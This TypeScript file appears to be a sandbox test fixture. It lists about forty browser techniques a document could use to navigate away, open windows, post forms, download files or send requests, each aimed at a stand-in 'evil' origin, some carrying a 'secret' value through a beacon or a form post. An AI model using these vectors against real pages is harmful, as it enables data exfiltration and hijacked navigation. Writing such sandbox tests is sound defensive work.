/**
 * What a document can do and a worker cannot: move the tab, open windows, send forms, save files, fetch by markup. No
 * program of a reader ever runs in a document; these say what the frame would still hold back if one did.
 */

export interface DocumentAttack {
  readonly id: string;
  /** JavaScript in a document with `url`, `udpPort` and `add(html)` in scope. */
  readonly code: string;
  /** It takes the document away, if it works: each is tried in a frame of its own. */
  readonly leaves?: true;
  /** What is seen of it in a page without a sandbox: a request (the default), a download, or nothing in this browser. */
  readonly naive?: "download" | "nothing";
}

const markup = (id: string, html: string, more: Partial<DocumentAttack> = {}): DocumentAttack => ({
  id,
  code: `add(${JSON.stringify(html)})`,
  ...more,
});

export const documentAttacks: readonly DocumentAttack[] = [
  { id: "navigate-top", code: `top.location.href = url`, leaves: true },
  {
    id: "navigate-top-link",
    code: `add('<a id="away" target="_top">x</a>'); Object.assign(document.getElementById("away"), { href: url }).click()`,
    leaves: true,
  },
  { id: "navigate-parent", code: `parent.location.href = url`, leaves: true },
  { id: "navigate-self", code: `location.href = url`, leaves: true },
  markup("refresh", `<meta http-equiv="refresh" content="0;url=URL">`, { leaves: true }),
  { id: "popup", code: `open(url)` },
  { id: "popup-no-opener", code: `open(url, "_blank", "noopener")` },
  {
    id: "popup-link",
    code: `add('<a id="pop" target="_blank">x</a>'); Object.assign(document.getElementById("pop"), { href: url }).click()`,
  },
  {
    id: "form-get",
    code: `add('<form id="form-get" target="in-frame"></form><iframe name="in-frame"></iframe>'); const form = document.getElementById("form-get"); form.action = url; form.submit()`,
  },
  {
    id: "form-post",
    code: `add('<form id="form-post" method="post" target="_blank"><input name="secret" value="1"></form>'); const form = document.getElementById("form-post"); form.action = url; form.submit()`,
  },
  {
    id: "download",
    code: `add('<a id="save" download="x">x</a>'); Object.assign(document.getElementById("save"), { href: URL.createObjectURL(new Blob(["x"])) }).click()`,
    naive: "download",
  },
  {
    id: "navigate-self-link",
    code: `add('<a id="self">x</a>'); Object.assign(document.getElementById("self"), { href: url }).click()`,
    leaves: true,
  },
  markup("prefetch", `<link rel="prefetch" href="URL">`),
  markup("preload", `<link rel="preload" as="script" href="URL">`),
  markup("module-preload", `<link rel="modulepreload" href="URL">`),
  markup("style", `<link rel="stylesheet" href="URL">`),
  markup("icon", `<link rel="icon" href="URL">`, { naive: "nothing" }),
  markup("manifest", `<link rel="manifest" href="URL">`, { naive: "nothing" }),
  {
    id: "speculation",
    code: `const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] }); document.head.append(rules)`,
    naive: "nothing",
  },
  markup("image", `<img src="URL">`),
  markup("image-set", `<img srcset="URL 2x, URL 1x">`),
  markup("svg-image", `<svg><image href="URL" width="9" height="9"/></svg>`),
  markup("svg-use", `<svg><use href="URL#x"/></svg>`, { naive: "nothing" }),
  markup("video", `<video src="URL" autoplay></video>`),
  markup("audio", `<audio src="URL" autoplay></audio>`),
  markup("object", `<object data="URL"></object>`),
  markup("embed", `<embed src="URL">`),
  markup("iframe", `<iframe src="URL"></iframe>`),
  markup("inline-style", `<p style="background: url(URL)">x</p>`),
  markup("css-import", `<style>@import url(URL);</style>`),
  markup("css-font", `<style>@font-face { font-family: evil; src: url(URL) } p { font-family: evil }</style><p>x</p>`),
  {
    id: "script",
    code: `const script = document.createElement("script"); script.src = url; document.head.append(script)`,
  },
  { id: "image-object", code: `new Image().src = url` },
  { id: "beacon-document", code: `navigator.sendBeacon(url, "secret")` },
  {
    id: "ping",
    code: `add('<a id="ping" href="#here">x</a>'); const link = document.getElementById("ping"); link.ping = url; link.click()`,
    leaves: true,
  },
  { id: "fetch-document", code: `void fetch(url, { mode: "no-cors" }).catch(() => 0)` },
  { id: "fetch-later-document", code: `fetchLater(url, { activateAfter: 0 })` },
  { id: "socket-document", code: `new WebSocket(url.replace("http", "ws"))` },
  { id: "events-document", code: `new EventSource(url)` },
  { id: "worklet", code: `void new AudioContext().audioWorklet.addModule(url).catch(() => 0)` },
  { id: "worker-document", code: `new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(url) + ")"])))` },
];

/** The code of an attack, as an expression that says `threw …` or `done`. */
export function documentScript({ id, code }: DocumentAttack, evilOrigin: string): string {
  const url = JSON.stringify(`${evilOrigin}/page-${id}`);
  return `(() => {
    const url = ${url};
    const add = (html) => (document.body ?? document.documentElement).insertAdjacentHTML("beforeend", html.replaceAll("URL", url));
    try { ${code}; return "done"; } catch (error) { return "threw " + error; }
  })()`;
}
